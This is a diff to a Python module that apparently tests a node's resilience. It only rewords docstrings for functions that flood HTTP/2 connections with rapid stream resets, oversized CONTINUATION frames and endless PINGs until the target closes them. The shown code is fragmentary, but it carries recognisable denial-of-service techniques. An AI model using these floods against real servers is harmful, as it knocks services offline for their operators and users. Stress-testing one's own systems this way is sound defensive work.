@@ -1,4 +1,4 @@
-"""Attacks by means that HTTP/2 alone has: resets, continuations, pings without end."""
+"""Attacks that only HTTP/2 allows: endless resets, continuations and pings."""
 
 import asyncio
 import contextlib
@@ -16,7 +16,7 @@ FRAMES_AT_ONCE = 200
 CONTINUATION_BYTES = 16_000
 CONTINUATIONS = 1_000
 ROUNDS = 3
-"""How often each connection that was ended is made again."""
+"""How often each connection is made again after the node ended it."""
 
 _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 1, 3, 4, 6, 9
 _END_STREAM, _END_HEADERS = 0x1, 0x4
@@ -44,7 +44,7 @@ GREETING = PREFACE + frame(_SETTINGS)
 
 
 def resets(first: int, count: int) -> bytes:
-    """Return requests that are each taken back at once, from a stream on."""
+    """Return requests that are each reset at once, beginning with a stream's id."""
     block = header_block("/node/api")
     flags = _END_STREAM | _END_HEADERS
     return b"".join(
@@ -55,7 +55,7 @@ def resets(first: int, count: int) -> bytes:
 
 
 async def rapid_resets(target: Target, spend: Spend) -> Sequence[str]:
-    """Ask and take back, without end."""
+    """Send requests and reset each at once, without end."""
     pieces = [
         resets(_FIRST_STREAM + 2 * done, FRAMES_AT_ONCE)
         for done in range(0, FRAMES, FRAMES_AT_ONCE)
@@ -73,7 +73,7 @@ async def continuations(target: Target, spend: Spend) -> Sequence[str]:
 
 
 async def pings(target: Target, spend: Spend) -> Sequence[str]:
-    """Ask for signs of life, without end."""
+    """Send pings without end."""
     some = frame(_PING, payload=bytes(8)) * FRAMES_AT_ONCE
     return await _flood(target, spend, [some] * (FRAMES // FRAMES_AT_ONCE))
 
@@ -81,7 +81,7 @@ async def pings(target: Target, spend: Spend) -> Sequence[str]:
 async def _flood(
     target: Target, spend: Spend, pieces: Sequence[bytes]
 ) -> Sequence[str]:
-    """Send all of it over each connection until it is closed."""
+    """Send the frames over each connection until it is closed."""
     context = stranger_context()
     context.set_alpn_protocols(["h2"])
     ended: list[bool] = []
